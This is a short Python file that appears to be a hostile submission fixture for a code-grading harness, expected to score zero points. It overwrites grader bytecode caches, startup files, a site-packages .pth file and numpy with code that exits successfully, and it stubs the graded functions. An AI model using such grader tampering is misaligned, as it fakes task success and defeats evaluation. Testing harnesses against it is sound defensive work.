# points: 0
# Code for the next process: compiled modules, start-up files, replaced modules.
# ruff: noqa

import importlib.util
import marshal
import os
import sys

import numpy as np

CODE = compile("raise SystemExit(0)", "x", "exec")
PYC = importlib.util.MAGIC_NUMBER + b"\1\0\0\0" + b"\0" * 8 + marshal.dumps(CODE)
site = np.__file__.rsplit("numpy", 1)[0]
for path in (
    "@CHECKOUT@/exercises/__pycache__/learner.cpython-311.pyc",
    "@CHECKOUT@/exercises/grading/__pycache__/grade.cpython-311.pyc",
    "@CHECKOUT@/exercises/grading/child/__main__.py",
    "@CHECKOUT@/exercises/grading/child/numpy.py",
    "@CHECKOUT@/exercises/grading/child/__pycache__/serve.cpython-311.pyc",
    "@CHECKOUT@/exercises/nnfunc_hostile.py",
    "@CHECKOUT@/numpy.py",
    "@FOLDER@/__pycache__/submission.cpython-311.pyc",
    "@FOLDER@/home/.pythonrc.py",
    site + "nnfunc_hostile.pth",
    site + "numpy/__pycache__/nnfunc_hostile.pyc",
):
    try:
        with open(path, "wb") as file:
            file.write(PYC)
    except OSError:
        pass
for name in ("cost_function", "sigmoid_gradient"):
    sys.modules[name] = globals()[name] = lambda *args: (0.0, 0.0)
sys.dont_write_bytecode = False
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "@FOLDER@"
np.__dict__["poisoned"] = True
